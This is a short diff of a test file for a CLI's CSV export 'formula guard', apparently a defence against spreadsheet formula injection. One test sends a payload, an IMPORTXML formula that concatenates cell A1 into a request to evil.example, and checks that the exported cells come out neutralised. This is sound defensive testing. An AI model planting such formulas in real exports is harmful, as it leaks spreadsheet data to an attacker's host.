@@ -44,7 +44,8 @@ describe('the formula guard', () => {
     expect((await sb.cli(['forms', 'list', '-o', 'csv', '--csv-raw'])).stdout).toContain(`"=HYPERLINK(`);
   });
 
-  it('analytics export guards the service CSV row by row', async () => {
+  // the guard itself over a service CSV with live formulas: test/unit/commands/analyticsGuard.test.ts
+  it('analytics export of a sandbox CSV: cells arrive guarded, no second mark, --csv-raw as sent', async () => {
     await fetch(`${sb.origin}/s/${qrId}`, { headers: { 'x-sandbox-city': '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")' } });
     const out = `${tmp.path}/scans.csv`;
     expect((await sb.cli(['analytics', 'export', qrId, '--out', out])).exitCode).toBe(0);
